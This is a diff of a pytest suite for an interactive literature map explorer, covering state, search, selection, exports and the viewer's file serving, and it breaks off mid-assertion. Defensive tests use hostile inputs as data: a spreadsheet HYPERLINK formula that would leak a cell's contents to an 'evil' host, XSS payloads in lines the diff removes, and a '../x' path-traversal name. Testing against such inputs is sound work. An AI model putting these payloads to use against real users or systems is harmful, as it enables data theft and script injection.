@@ -1,405 +1,498 @@
-"""The map explorer, driven by messages of a page: views, names, selection, state, files."""
+"""The map explorer: its state from code and from a page, search, selection, results and files."""
 
 from __future__ import annotations
 
-import dataclasses
+import csv
+import gzip
+import io
+import json
+import threading
 import time
+from collections.abc import Callable, Iterator
+from contextlib import contextmanager
 from typing import Any
 
 import numpy as np
+import pandas as pd
 import pytest
 
-pytest.importorskip("plotly")
-pytest.importorskip("ipywidgets")
+from benchmarks.literature import write_made_up_atlas
 
 # Private modules: no public function exposes the steps tested here by themselves.
-from landscape.errors import InputError
-from landscape.figures.labels import boxes_overlap
+from landscape import Atlas
+from landscape.errors import InputError, LandscapeError
+from landscape.viewer import MapSource
+from landscape.viewer.columns import colours_of
+from landscape.viewer.state import inside, passing
 from landscape.widgets import MapExplorer
-from landscape.widgets._colours import colouring_of
-from landscape.widgets._view import Points, View
+from landscape.widgets import _explorer_tasks as work
 
 
 def from_page(explorer: MapExplorer, **state: Any) -> None:
-    """Send a message of the browser to the kernel."""
-    data = {"method": "update", "state": state, "buffer_paths": []}
-    explorer.figure._handle_msg({"content": {"data": data}, "buffers": []})
+    """Change traits as the browser does."""
+    explorer.map.set_state(state)
     assert explorer.wait(60)
 
 
-def zoom_on_page(explorer: MapExplorer, box: tuple[float, ...]) -> None:
-    x0, y0, x1, y1 = box
-    ranges = {
-        "xaxis.range[0]": x0,
-        "xaxis.range[1]": x1,
-        "yaxis.range[0]": y0,
-        "yaxis.range[1]": y1,
-    }
-    from_page(explorer, _js2py_relayout={"relayout_data": ranges, "source_view_id": "a"})
+def select_on_page(explorer: MapExplorer, rows: Any, outline: Any = None) -> None:
+    turn = explorer.map.selected.get("turn", 0) + 1
+    points = explorer.map.points_of(rows)
+    from_page(explorer, selected={"turn": turn, "points": points}, outline=outline)
 
 
-def draw_on_page(explorer: MapExplorer, kind: str, **state: Any) -> None:
-    points: dict[str, list[Any]] = {"trace_indexes": [], "point_indexes": [], "xs": [], "ys": []}
-    message = {
-        "event_type": "plotly_selected",
-        "points": points,
-        "device_state": None,
-        "selector": {"type": kind, "selector_state": state},
-    }
-    from_page(explorer, _js2py_pointsCallback=message)
+def ask_on_page(explorer: MapExplorer, do: str, rows: Any = None, **request: Any) -> None:
+    """Send a request as the browser does."""
+    buffers = [] if rows is None else [explorer.map.points_of(rows)]
+    explorer.map._hear(explorer.map, {"do": do, **request}, buffers)
+    assert explorer.wait(60)
 
 
-def click_on_page(explorer: MapExplorer, trace: str, number: int) -> None:
-    from landscape.widgets._map_figure import TRACES
-
-    points = {
-        "trace_indexes": [TRACES.index(trace)],
-        "point_indexes": [number],
-        "xs": [0],
-        "ys": [0],
-    }
-    message = {
-        "event_type": "plotly_click",
-        "points": points,
-        "device_state": None,
-        "selector": None,
-    }
-    from_page(explorer, _js2py_pointsCallback=message)
-
-
-def source(explorer: MapExplorer) -> str:
-    return str(explorer.figure.layout.images[1].source)
-
-
-def test_an_outline_goes_when_another_selection_takes_its_place(explorer):
-    x0, y0, x1, y1 = explorer.view
-    draw_on_page(explorer, "lasso", xs=[x0, x1, x1, x0], ys=[y0, y0, y1, y1])
-    outline = {"type": "path", "xref": "x", "yref": "y", "path": f"M{x0},{y0}L{x1},{y0}L{x1},{y1}Z"}
-    from_page(
-        explorer,
-        _js2py_relayout={"relayout_data": {"selections": [outline]}, "source_view_id": "a"},
+@pytest.fixture
+def sent(explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch) -> list[tuple[Any, list[bytes]]]:
+    """Messages to the browser."""
+    told: list[tuple[Any, list[bytes]]] = []
+    monkeypatch.setattr(
+        explorer.map, "send", lambda message, buffers=None: told.append((message, buffers or []))
     )
-    told = []
-    explorer.figure.observe(lambda change: told.append(change["new"]), "_py2js_relayout")
-    explorer.select([])
-    assert [one["relayout_data"] for one in told if one] == [{"selections": []}]
-    assert explorer.figure.get_state()["_widget_layout"]["selections"] == []
+    return told
 
 
-def test_a_zoom_on_the_page_is_drawn_anew_from_all_papers(explorer):
-    before = source(explorer)
-    x, y = explorer._data.x, explorer._data.y
-    box = View(explorer.view).zoomed(3).box
-    zoom_on_page(explorer, box)
-    assert source(explorer) != before
-    assert np.allclose(explorer.view, box)
-    inside = View(box).holds(x, y).sum()
-    assert abs(explorer._drawn.picture.n_papers - inside) <= 1  # float32 at the edges
-    assert "view=(" in explorer.code
+def again(explorer: MapExplorer) -> MapExplorer:
+    names = {"MapExplorer": MapExplorer, "atlas": explorer.atlas}
+    made: MapExplorer = eval(explorer.code, names)  # noqa: S307 - our own line
+    assert made.wait(60)
+    return made
 
 
-def test_single_papers_are_told_once_few_are_in_view(explorer):
-    rows = explorer._drawn.marks["papers"]  # 400 papers are few
-    texts = explorer.figure.trace("papers").hovertext
-    assert len(rows) == len(texts) == len(explorer.figure.trace("papers").x)
-    paper = explorer.atlas.engine.papers([int(rows[7])])[0]
-    assert paper.title.split()[0] in texts[7]
-    assert str(paper.year) in texts[7]
+@contextmanager
+def held_up(monkeypatch: pytest.MonkeyPatch, owner: Any, name: str) -> Iterator[Callable[[], None]]:
+    """Block calls of a function until the context exits."""
+    begun, go_on = threading.Event(), threading.Event()
+    real = getattr(owner, name)
+
+    def waiting(*args: Any, **named: Any) -> Any:
+        begun.set()
+        assert go_on.wait(60)
+        return real(*args, **named)
+
+    monkeypatch.setattr(owner, name, waiting)
+
+    def until_begun() -> None:
+        assert begun.wait(60)
+
+    try:
+        yield until_begun
+    finally:
+        go_on.set()
 
 
-@pytest.mark.parametrize("name", ["MUSE", "VLT/MUSE", "VLT", "GPI", "JWST"])
-def test_a_facility_outlines_the_papers_that_its_filter_selects(explorer, name):
-    explorer.facility = name
+# -- state
+
+
+def test_the_code_makes_the_same_state(explorer: MapExplorer) -> None:
+    explorer.search("dark matter", k=10, method="words")
+    explorer.time = (2005, 2015)
+    explorer.region = explorer.atlas.topics.query("level == 1")["label"].iloc[0]
+    explorer.facility, explorer.layers = "HST", ("names", "reviews")
+    explorer.select("2010..").colour_by = "journal"
+    explorer.zoom(2).theme = "dark"
     assert explorer.wait(60)
-    rows = explorer._state.overlays["facility"].rows.tolist()
-    assert rows == explorer.atlas.select(f'facility:"{name}"').tolist()
+    made = again(explorer)
+    assert made.code == explorer.code
+    assert made.map.given == {**explorer.map.given, "view": made.map.given["view"]}
+    assert np.allclose(made.view, explorer.view, rtol=1e-2)
+    assert made.rows.tolist() == explorer.rows.tolist()
+    assert made.results.rows.tolist() == explorer.results.rows.tolist()
+
+
+def test_the_code_follows_the_page(explorer: MapExplorer) -> None:
+    view = [0.5, 1.0, 1.5, 2.0]
+    from_page(explorer, given={"view": view, "colour": "year", "years": [2000, 2010]})
+    assert explorer.view == tuple(view)
+    assert explorer.colour_by == "year"
+    assert explorer.time == (2000, 2010)
+    assert "view=(0.500, 1.000, 1.500, 2.000), colour_by='year', time=(2000, 2010)" in explorer.code
+    from_page(explorer, given={"view": [0.6, 1.0, 1.5, 2.0]})
+    explorer.back()
+    assert explorer.view == tuple(view)
 
 
 @pytest.mark.parametrize(
-    ("name", "message"),
-    [("HERMES", "3 facilities 'HERMES'; give one of"), ("ALMO", "no facility 'ALMO'; the nearest")],
+    ("filters", "expected"),
+    [
+        ({"years": [2000, 2010]}, "2000..2010"),
+        ({"facility": "HST"}, "facility:HST"),
+        ({"facility": "HST", "uses": True}, "uses:HST"),
+    ],
 )
-def test_an_unclear_facility_is_reported(explorer, name, message):
-    explorer.facility = name
-    assert explorer.wait(60)
-    assert message in explorer.status
-    assert "facility" not in explorer._state.overlays
-
-
-def test_a_click_shows_the_record(explorer):
-    row = int(explorer._drawn.marks["papers"][3])
-    click_on_page(explorer, "papers", 3)
-    paper = explorer.atlas.engine.papers([row])[0]
-    assert paper.abstract[:20] in explorer._controls.record.value
-    assert list(explorer.figure.trace("focus").x) == [explorer._data.x[row]]
-
-
-@pytest.mark.parametrize("kind", ["lasso", "box"])
-def test_an_outline_selects_all_papers_in_it(explorer, kind):
-    explorer.layers = []  # nothing is drawn singly: the outline alone has to do
-    x0, y0, x1, y1 = View(explorer.view).zoomed(2).box
-    if kind == "box":
-        draw_on_page(explorer, "box", xrange=[x0, x1], yrange=[y0, y1])
+def test_filters_of_the_page_and_of_a_search_agree(
+    explorer: MapExplorer, filters: dict[str, Any], expected: str
+) -> None:
+    rows = np.flatnonzero(passing(explorer.map.source, filters))
+    if expected.startswith("uses:"):
+        mentions = explorer.atlas.missions
+        own = (mentions["facility"] == "HST") & (mentions["role"] == "science")
+        assert rows.tolist() == sorted(set(mentions["paper_row"][own]))
     else:
-        draw_on_page(explorer, "lasso", xs=[x0, x1, x1, x0], ys=[y0, y0, y1, y1])
-    unit = View(explorer.view).width / explorer._size[0]
-    expected = View((x0, y0, x1, y1)).holds(explorer._data.x, explorer._data.y).sum()
-    loose = View((x0 - unit, y0 - unit, x1 + unit, y1 + unit))
-    assert len(explorer.rows) > 0
-    assert (
-        abs(len(explorer.rows) - expected)
-        <= loose.holds(explorer._data.x, explorer._data.y).sum() - expected + 3
-    )
-    table = explorer.selection
-    assert len(table) == len(explorer.rows)
-    assert table["paper_id"].tolist() == [
-        explorer.atlas.map["paper_id"][row] for row in explorer.rows
-    ]
-    assert "outline=[" in explorer.code
+        assert rows.tolist() == explorer.atlas.select(expected).tolist()
+    assert 0 < len(rows) < 400
 
 
-def test_the_code_makes_the_same_view(demo_atlas, explorer):
+def test_a_region_has_the_papers_of_its_subregions(explorer: MapExplorer) -> None:
+    topics = explorer.atlas.topics
+    for row in topics.itertuples():
+        n = int(passing(explorer.map.source, {"region": row.topic_id}).sum())
+        if row.level < 2:
+            assert n == row.n_papers
+    explorer.region = int(topics["topic_id"].iloc[0])
+    assert explorer.region == topics["label"].iloc[0]
+
+
+def test_names_are_found_as_in_filters(explorer: MapExplorer) -> None:
+    explorer.facility = "hubble space telescope"
+    assert explorer.facility == "HST"
+    ids = explorer.atlas.uat["concept_id"].value_counts()
+    label = explorer.atlas.thesaurus.concepts[ids.index[0]].label
+    explorer.concept = label.upper()
+    assert explorer.concept == label
+    assert f"concept={label!r}, facility='HST'" in explorer.code
+
+
+@pytest.mark.parametrize(
+    ("given", "said"),
+    [
+        ({"outline": [1, 2, 3]}, r"The outline is \[1, 2, 3\]; give its corners"),
+        ({"outline": [("a", 1)]}, "give its corners"),
+        ({"layers": 5}, "The layers are 5; give a list"),
+        ({"layers": ["name"]}, "There is no layer 'name'"),
+        ({"concept": 5}, "The concept is 5; give its name"),
+        ({"facility": "HERMES"}, "3 facilities 'HERMES'; give one of"),
+        ({"facility": "ALMO"}, "no facility 'ALMO'; the nearest"),
+        ({"region": "Nowhere"}, "There is no region 'Nowhere'"),
+        ({"colour_by": "topic"}, "There is no colour 'topic'; use one of region, density"),
+        ({"time": (2005, 1999)}, "ends in 1999"),
+        ({"view": (1, 2, 3)}, r"The view is \(1, 2, 3\); give"),
+        ({"view": (1, 2, 0, 3)}, "with x0 < x1"),
+        ({"theme": "blue"}, "The theme is 'blue'; use one of auto"),
+        ({"height": 5}, "height is 5"),
+        ({"search": 5}, "The search is 5; write a question"),
+        ({"search": "dust", "method": "magic"}, "There is no method 'magic'"),
+        ({"mine": ["2024ApJ...999..999X"]}, "None of the 1 paper in .* is in this atlas"),
+        ({"mine": "nowhere.bib"}, "'nowhere.bib' cannot be read"),
+    ],
+)
+def test_what_cannot_be_is_one_sentence(
+    demo_atlas: Atlas, given: dict[str, Any], said: str
+) -> None:
+    with pytest.raises(LandscapeError, match=said):
+        MapExplorer(demo_atlas, **given)
+
+
+def test_a_folder_is_no_atlas(demo_atlas: Atlas) -> None:
+    with pytest.raises(InputError, match=r"needs an open atlas, not .*; open .* with ls.open"):
+        MapExplorer(str(demo_atlas.path))  # type: ignore[arg-type]
+
+
+def test_a_zoom_has_its_bounds(explorer: MapExplorer) -> None:
+    for _ in range(30):
+        explorer.zoom(2)
+    x0, _, x1, _ = explorer.view
+    assert x1 - x0 == pytest.approx(explorer.map.source.box[2] / 200)
+    before = explorer.view
+    for factor in (0, -1, float("nan"), float("inf"), "much"):
+        with pytest.raises(InputError, match=r"The zoom is .*; give a number above 0"):
+            explorer.zoom(factor)  # type: ignore[arg-type]
+    assert explorer.view == before
+
+
+def test_two_explorers_share_nothing_unless_they_are_linked(
+    demo_atlas: Atlas, explorer: MapExplorer, tmp_path: Any
+) -> None:
+    other = MapExplorer(demo_atlas, theme="dark")
+    other.select("2010..").zoom(3)
+    assert not len(explorer.rows)
+    assert "view" not in explorer.map.given
+    explorer.link(other)
+    small = write_made_up_atlas(tmp_path / "small.atlas", n_papers=20, n_facilities=2)
+    with pytest.raises(InputError, match="is another atlas than"):
+        explorer.link(MapExplorer(small))
+
+
+# -- search and selection
+
+
+def test_a_search_is_told_to_the_page_with_its_key(
+    explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
+) -> None:
     explorer.search("dark matter", k=10)
     assert explorer.wait(60)
-    explorer.time = (2005, 2015)
-    explorer.select("2010..")
-    explorer.colour_by = "year"
-    assert explorer.wait(60)
-    explorer.zoom(2)
-    assert explorer.wait(60)
-    again = eval(explorer.code, {"MapExplorer": MapExplorer, "atlas": demo_atlas})  # noqa: S307
-    assert again.wait(60)
-    assert again.code == explorer.code
-    assert again.rows.tolist() == explorer.rows.tolist()
-    assert again.results.rows.tolist() == explorer.results.rows.tolist()
-    assert again.colour_by == "year"
-    assert np.allclose(again.view, explorer.view, atol=1e-2 * View(explorer.view).width)
+    found = explorer.map.found
+    assert found["key"] == ["dark matter", "hybrid", 10, None]
+    assert explorer.map.rows_of(found["points"]).tolist() == explorer.results.rows.tolist()
+    assert explorer.results.note.startswith("Best first")
+    runs: list[Any] = []
+    real = work.find_papers
+    monkeypatch.setattr(work, "find_papers", lambda *a, **k: runs.append(a) or real(*a, **k))
+    asked: dict[str, Any] = {"query": "dark matter", "method": "hybrid", "k": 10}
+    ask_on_page(explorer, "search", **asked, years=None)
+    assert runs == [], "what the page asks for is known already"
+    ask_on_page(explorer, "search", **asked, years=[2010, 2020])
+    assert len(runs) == 1
+    years = explorer.atlas.read_papers(["year"])["year"][explorer.results.rows]
+    assert years.between(2010, 2020).all()
 
 
-def test_names_never_touch_at_any_zoom(explorer):
-    for factor in (1.0, 1.7, 3.0, 5.0, 9.0):
-        explorer.home().zoom(factor)
-        assert explorer.wait(60)
-        boxes = np.array([name.box for name in explorer._drawn.names]).reshape(-1, 4)
-        assert len(boxes) or factor > 2  # few papers have few names
-        overlap = boxes_overlap(boxes[:, None], boxes[None], gap=0)
-        np.fill_diagonal(overlap, False)
-        assert not overlap.any()
-        assert (boxes >= 0).all()
-        assert (boxes[:, 2] <= explorer._size[0]).all()
-
-
-@pytest.mark.parametrize(
-    "name", ["density", "topic", "year", "citations", "journal", "facility", "concept"]
-)
-def test_every_colouring_is_drawn_with_its_legend(explorer, name):
-    if name == "facility":
-        explorer.facility = "HST"
-    if name == "concept":
-        explorer.concept = next(iter(explorer.atlas.thesaurus.concepts.values())).label
-    assert explorer.wait(60)
-    explorer.colour_by = name
-    assert explorer.wait(60)
-    if explorer._state.colouring.kind == "density" and name != "density":
-        assert "No paper" in explorer.status  # the corpus has none
-        return
-    assert explorer.colour_by == name
-    assert explorer._drawn.picture.pixels.ndim == (2 if name == "density" else 3)
-    assert "swatch" in explorer._controls.legend.value or "ramp" in explorer._controls.legend.value
-
-
-def test_errors_are_sentences_and_nothing_changes(explorer):
+def test_an_error_of_a_search_reaches_the_page_and_the_text_stays(explorer: MapExplorer) -> None:
     explorer.search("citations>", method="filter")
     assert explorer.wait(60)
     assert "whole number is missing" in explorer.status
+    assert "whole number is missing" in explorer.map.found["problem"]
+    assert explorer.map.notice == explorer.status
+    assert explorer.map.given["query"] == "citations>"
     assert explorer.results is None
-    explorer.facility = "ALMO"
+
+
+def test_years_chosen_during_a_search_hold_for_it(
+    explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    with held_up(monkeypatch, work, "find_papers") as until_begun:
+        explorer.search("dust", k=10)
+        until_begun()
+        explorer.time = (2010, 2020)
     assert explorer.wait(60)
-    assert "ALMO" in explorer.status
-    assert explorer._controls.facility.value == ""
-    with pytest.raises(InputError, match="There is no colour 'colour'"):
-        colouring_of(explorer.atlas, "colour")
-    with pytest.raises(InputError, match="ends in 1999"):
-        explorer.time = (2005, 1999)
+    years = explorer.atlas.read_papers(["year"])["year"][explorer.results.rows]
+    assert years.between(2010, 2020).all()
+    assert explorer.map.found["key"][3] == [2010, 2020]
 
 
-def test_the_time_window_and_play(explorer):
-    explorer.time = (2000, 2005)
+def test_a_search_that_is_cleared_finds_nothing(
+    explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    with held_up(monkeypatch, work, "find_papers") as until_begun:
+        explorer.search("dust")
+        until_begun()
+        explorer.clear()
     assert explorer.wait(60)
-    years = explorer._data.years
-    assert explorer._drawn.picture.n_papers <= ((years >= 2000) & (years <= 2005)).sum()
-    explorer._controls.play.value = 2010
+    assert explorer.results is None
+    assert explorer.code == "MapExplorer(atlas)"
+
+
+def test_an_outline_of_the_page_is_a_table_and_code(explorer: MapExplorer) -> None:
+    x0, y0, x1, y1 = explorer.view
+    corners = [[x0, y0], [(x0 + x1) / 2, y0], [(x0 + x1) / 2, y1], [x0, y1]]
+    rows = inside(explorer.map.source, corners)
+    assert 20 < len(rows) < 380
+    select_on_page(explorer, rows, corners)
+    assert explorer.rows.tolist() == rows.tolist()
+    table = explorer.selection
+    assert table.index.tolist() == rows.tolist()
+    assert table["paper_id"].tolist() == explorer.atlas.map["paper_id"][rows].tolist()
+    assert "outline=[" in explorer.code
+    assert again(explorer).rows.tolist() == rows.tolist()
+    from_page(explorer, given={"years": [2010, 2020]})
+    assert "select([" in explorer.code, "with other years, the outline has other papers"
+    assert again(explorer).rows.tolist() == rows.tolist()
+    explorer.select(np.arange(350))
+    assert "350 papers selected, too many to list" in explorer.code
+    assert explorer.map.outline is None
+
+
+def test_the_even_odd_rule_is_that_of_matplotlib(demo_atlas: Atlas) -> None:
+    from matplotlib.path import Path as Outline
+
+    source = MapSource(demo_atlas)
+    x0, y0, side = source.box
+    corners = x0 + side * np.array([(0.1, 0.2), (0.8, 0.1), (0.5, 0.5), (0.9, 0.9), (0.2, 0.8)])
+    corners[:, 1] += y0 - x0
+    points = source.plane[source.point_of] * side + [x0, y0]
+    expected = Outline(np.vstack([corners, corners[:1]])).contains_points(points)
+    assert inside(source, corners.tolist()).tolist() == np.flatnonzero(expected).tolist()
+
+
+def test_a_filter_gives_way_to_what_was_selected_after_it(
+    explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    with held_up(monkeypatch, explorer.atlas.engine, "select") as until_begun:
+        explorer.map._hear(explorer.map, {"do": "select", "filter": "2010.."}, [])
+        until_begun()
+        explorer.select([1, 2])
     assert explorer.wait(60)
-    assert explorer.time == (2005, 2010)
-    assert explorer._controls.time.value == (2005, 2010)
+    assert explorer.rows.tolist() == [1, 2]
 
 
-def test_summary_comparison_answer_and_files(explorer, tmp_path):
+def test_a_filter_with_an_error_keeps_the_selection(explorer: MapExplorer) -> None:
+    explorer.select([1, 2])
+    ask_on_page(explorer, "select", filter="2015...; fooo:bar")
+    assert explorer.status
+    assert explorer.map.notice == explorer.status
+    assert explorer.rows.tolist() == [1, 2]
+
+
+# -- results and files
+
+
+def test_summary_comparison_answer_and_tables(explorer: MapExplorer, tmp_path: Any) -> None:
+    with pytest.raises(InputError, match="No paper is selected"):
+        explorer.summarise()
     explorer.select("2010..")
-    assert explorer.wait(60)
-    assert "Regions" in explorer._controls.summary.value
     summary = explorer.summarise()
-    alone = summary._repr_html_()  # shown by itself, without the styles of the panel
-    assert "fill='#" in alone
-    assert "justify-content: space-between" in alone
+    assert "fill='#" in summary._repr_html_()  # shown by itself, without the styles of the panel
     assert summary.n_papers == len(explorer.rows) == summary.years.sum()
     assert len(explorer.compare().table)
     answer = explorer.ask("What is known about dark matter?", model=None)
     chosen = set(explorer.rows.tolist())
     assert answer.results.papers
     assert all(paper.row in chosen for paper in answer.results.papers)
-    lines = explorer.save(tmp_path / "some.csv").read_text().splitlines()
-    assert len([line for line in lines if not line.startswith("#")]) >= len(chosen) + 1
+    assert len(explorer.save(tmp_path / "some.csv").read_text().splitlines()) >= len(chosen) + 1
     assert explorer.save(tmp_path / "some.bib").read_text().count("@") >= len(chosen)
 
 
-def test_what_is_seen_is_saved(explorer, tmp_path):
+@pytest.mark.parametrize(
+    ("do", "shown"), [("summary", "Regions"), ("compare", "elsewhere"), ("ask", "landscape")]
+)
+def test_results_are_shown_on_the_page(explorer: MapExplorer, do: str, shown: str) -> None:
+    explorer.select("2010..")
+    ask_on_page(explorer, do, **({"question": "How does dust cool?"} if do == "ask" else {}))
+    assert explorer.status == ""
+    assert shown in explorer.map.outcome
+
+
+def test_a_result_of_another_selection_is_not_shown(
+    explorer: MapExplorer, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    explorer.select("2010..")
+    with held_up(monkeypatch, work, "compare_with_rest") as until_begun:
+        explorer.map._hear(explorer.map, {"do": "compare"}, [])
+        until_begun()
+        explorer.select("..2005")
+    assert explorer.wait(60)
+    assert explorer.map.outcome == ""
+
+
+def test_a_request_without_a_selection_is_one_sentence(explorer: MapExplorer) -> None:
+    ask_on_page(explorer, "compare")
+    assert explorer.status.startswith("No paper is selected")
+
+
+@pytest.mark.parametrize("suffix", [".png", ".html"])
+def test_the_page_makes_files(explorer: MapExplorer, sent: list[Any], suffix: str) -> None:
+    ask_on_page(explorer, "save", suffix=suffix)
+    ((message, (content,)),) = sent
+    assert message["kind"] == "download"
+    assert message["name"] == f"demo-corpus--generated{suffix}"
+    assert len(content) > 10_000
+
+
+def test_tables_of_the_listed_papers(explorer: MapExplorer, sent: list[Any]) -> None:
+    ask_on_page(explorer, "papers.csv", rows=[5, 3])
+    ask_on_page(explorer, "papers.bib", rows=[5, 3])
+    (_, (table,)), (_, (bib,)) = sent
+    ids = explorer.atlas.map["paper_id"]
+    assert pd.read_csv(io.BytesIO(table))["paper_id"].tolist() == [ids[5], ids[3]]
+    assert bib.count(b"@") == 2
+
+
+@pytest.mark.parametrize("colour", ["density", "region", "year", "facility", "concept", "journal"])
+def test_the_map_is_saved_with_its_colours(
+    explorer: MapExplorer, tmp_path: Any, colour: str
+) -> None:
+    explorer.colour_by = colour
+    explorer.layers = ("names", "papers", "reviews")
+    explorer.time = (2000, 2020)
+    explorer.search("dark matter", k=10).select("2015..")
+    assert explorer.wait(60)
+    path = explorer.save(tmp_path / "view.png")
+    assert path.stat().st_size > 10_000
+    told = path.with_suffix(".alt.txt").read_text()
+    n = int(passing(explorer.map.source, explorer.map.given).sum())
+    assert f"Shown: {n} of 400 papers (2000 to 2020)." in told
+    assert "Marked: 10 papers found for “dark matter”." in told
+    assert f"selected papers of {len(explorer.rows)} selected" in told
+
+
+def test_a_saved_page_has_the_viewer_in_the_same_state(
+    explorer: MapExplorer, tmp_path: Any
+) -> None:
     explorer.search("dark matter", k=10)
+    explorer.colour_by = "year"
     assert explorer.wait(60)
     page = explorer.save(tmp_path / "view.html").read_text()
-    assert len(page) < 8_000_000
-    assert "cdn.plot.ly" not in page.split("<div class='map'")[0]
-    assert "Found for" in page
-    assert "these papers do not exist" in page
-    assert explorer.save(tmp_path / "view.png").stat().st_size > 10_000
+    given = page.split("data-given=")[1].split(">")[0]
+    assert "&quot;colour&quot;: &quot;year&quot;" in given
+    assert "dark matter" not in given, "the page cannot search by meaning: the papers are selected"
+    assert given.count(",") >= 10
     with pytest.raises(InputError, match="cannot be written"):
         explorer.save(tmp_path / "view.doc")
 
 
-def test_a_page_that_comes_back_gets_the_figure_as_it_is(explorer):
-    zoom_on_page(explorer, View(explorer.view).zoomed(4).box)
-    state = explorer.figure.get_state()
-    assert np.allclose(state["_widget_layout"]["xaxis"]["range"], explorer.view[::2])
-    assert state["_widget_layout"]["images"][1]["source"] == source(explorer)
+def test_a_saved_notebook_can_have_a_picture(explorer: MapExplorer) -> None:
+    picture = explorer.picture()
+    assert picture.data.startswith(b"\x89PNG")
+    assert "400 papers" in picture.alt
 
 
-def test_two_explorers_share_nothing(demo_atlas, explorer):
-    other = MapExplorer(demo_atlas, theme="dark")
-    assert other.wait(60)
-    before = explorer.view, explorer.rows.tolist()
-    other.select("2010..").zoom(3)
-    assert other.wait(60)
-    assert (explorer.view, explorer.rows.tolist()) == before
-    assert explorer.theme == "light"
+def test_a_selection_as_csv_has_no_formulas(demo_atlas: Atlas) -> None:
+    import dataclasses
+
+    title = 'x,=HYPERLINK("http://evil/?"&B2;"click"),y'
+    manifest = dataclasses.replace(demo_atlas.manifest, title=title)
+    written = work.papers_as_csv(dataclasses.replace(demo_atlas, manifest=manifest), np.arange(3))
+    assert not any(cell.startswith("=") for row in csv.reader(io.StringIO(written)) for cell in row)
+    assert pd.read_csv(io.StringIO(written)).columns[:2].tolist() == ["paper_id", "title"]
 
 
-def test_an_atlas_built_again_is_said_once_and_can_be_reloaded(demo_atlas, tmp_path):
-    import shutil
-
-    import landscape
-
-    folder = tmp_path / "copy.atlas"
-    shutil.copytree(demo_atlas.path, folder)
-    explorer = MapExplorer(landscape.open(folder))
-    assert explorer.wait(60)
-    explorer.atlas.engine.papers([0])
-    from landscape.pipeline.stages import write_manifest
-    from landscape.store.manifest import read_manifest
-
-    time.sleep(0.01)
-    manifest = read_manifest(folder)
-    write_manifest(folder, dataclasses.replace(manifest, title="Built again"))
-    explorer.zoom(2)
-    assert explorer.wait(60)
-    assert "rebuilt" in explorer.status
-    assert explorer._controls.reload.layout.display == ""
-    explorer.reload()
-    assert explorer.wait(60)
-    assert explorer.heading == "Map of Built again"
-    assert explorer._controls.reload.layout.display == "none"
+# -- files of the viewer
 
 
-def test_papers_are_escaped_and_the_repr_is_short(explorer):
-    from landscape.types import Paper
-    from landscape.widgets._selection import hover_text, record_html
+def test_the_browser_gets_what_it_needs_without_asking(explorer: MapExplorer) -> None:
+    deadline = time.monotonic() + 60
+    while explorer.map.coming and time.monotonic() < deadline:
+        time.sleep(0.05)
+    view = explorer.map
+    assert set(view.files) == {"source.json", "points-0.bin"}
+    assert set(view.titles) == set(view.source.names("records"))
+    assert set(view.words) == set(view.source.names("words"))
+    table = json.loads(gzip.decompress(view.titles["records/0.json"]))
+    titles = explorer.atlas.read_papers(["title"])["title"]
+    assert table["title"][7] == titles[int(view.source.order[7])]
 
-    paper = Paper(
-        row=0,
-        paper_id="x",
-        title="<script>alert(1)</script>$x$",
-        abstract="<img src=x onerror=alert(1)>",
+
+def test_other_files_are_sent_when_they_are_asked_for(
+    explorer: MapExplorer, sent: list[Any]
+) -> None:
+    for name in ("details/0.json", "facilities.bin", "columns/journal", "../x", "details/99.json"):
+        ask_on_page(explorer, "read", name=name)
+    answers = {message["name"]: (message, buffers) for message, buffers in sent}
+    assert len(json.loads(gzip.decompress(answers["details/0.json"][1][0]))) == 128
+    head, _, values = gzip.decompress(answers["columns/journal"][1][0]).partition(b"\n")
+    assert json.loads(head)["title"].startswith("Journal")
+    assert len(values) == 400
+    assert answers["../x"][0]["error"] == "The viewer has no file '../x'."
+    assert "no file" in answers["details/99.json"][0]["error"]
+
+
+def test_colours_of_classes_and_numbers() -> None:
+    head, values = colours_of("journal", pd.Series(["A", None, "B", "A"]))
+    assert (head["labels"], values.tolist()) == (["A", "B"], [0, 255, 1, 0])
+    head, values = colours_of("categories", pd.Series([np.array(["x", "y"]), np.array([]), None]))
+    assert (head["labels"], values.tolist()) == (["x"], [0, 255, 255])
+    head, values = colours_of("year", pd.Series([2000, pd.NA, 2010], dtype="Int16"))
+    assert (head["ends"], head["unknown"], values.tolist()) == (["2000", "2010"], 1, [1, 0, 255])
+    with pytest.raises(InputError, match="No paper of this atlas has a value of 'x'"):
+        colours_of("x", pd.Series([None, None]))
+
+
+def test_own_papers_are_found_in_a_bibliography(demo_atlas: Atlas, tmp_path: Any) -> None:
+    papers = demo_atlas.engine.papers([3, 77])
+    (tmp_path / "mine.bib").write_text(
+        "".join(f"@article{{{paper.bibcode}, title={{x}}}}\n" for paper in papers)
+        + "@book{other, title={y}}\n"
     )
-    assert "<script" not in hover_text(paper) + record_html(paper)
-    assert "<img" not in record_html(paper)
-    assert "$" not in hover_text(paper)
-    assert len(repr(explorer)) < 200
-
-
-def test_selected_papers_stand_out_on_a_map_of_any_colours(explorer):
-    from landscape.figures.colours import theme
-    from landscape.widgets._raster import draw_picture
-
-    colouring, view = colouring_of(explorer.atlas, "year"), View(explorer.view)
-    points = explorer._data.points
-    lit = points.only(explorer._data.x < np.median(explorer._data.x))
-
-    def drawn(lit):
-        return draw_picture(
-            points, view, (300, 220), colours=theme("light"), colouring=colouring, lit=lit
-        ).rgb.astype(int)
-
-    plain, shown = drawn(None), drawn(lit)
-    ink = np.array([int(theme("light").ink[i : i + 2], 16) for i in (1, 3, 5)])
-    assert (shown == ink).all(axis=2).sum() > 50  # a dark line around them
-    assert not (plain == ink).all(axis=2).any()
-    assert shown.mean() > plain.mean()  # the others fade into the page
-
-
-def test_what_is_found_stands_above_the_names(explorer):
-    from landscape.widgets._map_figure import TRACES
-
-    order = [TRACES.index(name) for name in ("selected", "regions", "continents", "found", "apart")]
-    assert order == sorted(order)
-    explorer.search("dark matter", k=100)
-    assert explorer.wait(60)
-    found = explorer.results.rows[:12]
-    best = View(explorer.view).to_pixels(
-        explorer._data.x[found], explorer._data.y[found], explorer._size
+    explorer = MapExplorer(demo_atlas, mine=tmp_path / "mine.bib")
+    assert explorer.map.source.mine.tolist() == [3, 77]
+    assert (
